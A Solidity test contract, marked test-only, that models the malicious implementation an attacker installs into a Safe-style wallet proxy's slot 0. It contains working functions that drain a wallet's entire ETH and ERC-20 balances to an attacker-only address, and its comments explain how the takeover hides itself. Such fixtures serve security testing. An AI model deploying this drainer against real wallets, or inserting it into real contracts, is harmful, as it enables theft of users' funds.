// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @title MaliciousSingleton
/// @notice TEST ONLY: what an attacker installs in a wallet proxy's slot 0 (see SlotWriter).
///         Once installed, the wallet answers only these two functions, to the attacker alone:
///         every Safe view (getOwners, getThreshold, nonce) and even a plain ETH transfer into
///         the wallet revert with empty data, while its storage still reads as before.
///         sweepETH moves the native coin by an internal call, which emits no log; sweepERC20
///         moves a token balance, which emits only the token's Transfer.
contract MaliciousSingleton {
    error NotAttacker(address caller);
    error SweepFailed(address target);

    address internal singleton; // slot 0, as in the wallet it replaces

    /// Immutable: kept in this contract's code, so it reads the same inside any proxy.
    address public immutable attacker;

    constructor(address attacker_) {
        attacker = attacker_;
    }

    modifier onlyAttacker() {
        if (msg.sender != attacker) revert NotAttacker(msg.sender);
        _;
    }

    function sweepETH(address payable to) external onlyAttacker {
        (bool ok,) = to.call{value: address(this).balance}("");
        if (!ok) revert SweepFailed(to);
    }

    function sweepERC20(address token, address to) external onlyAttacker {
        (bool ok, bytes memory data) = token.staticcall(abi.encodeWithSelector(0x70a08231, address(this)));
        if (!ok || data.length < 32) revert SweepFailed(token);
        uint256 amount = abi.decode(data, (uint256));
        (ok, data) = token.call(abi.encodeWithSelector(0xa9059cbb, to, amount));
        if (!ok || (data.length > 0 && !abi.decode(data, (bool)))) revert SweepFailed(token);
    }
}
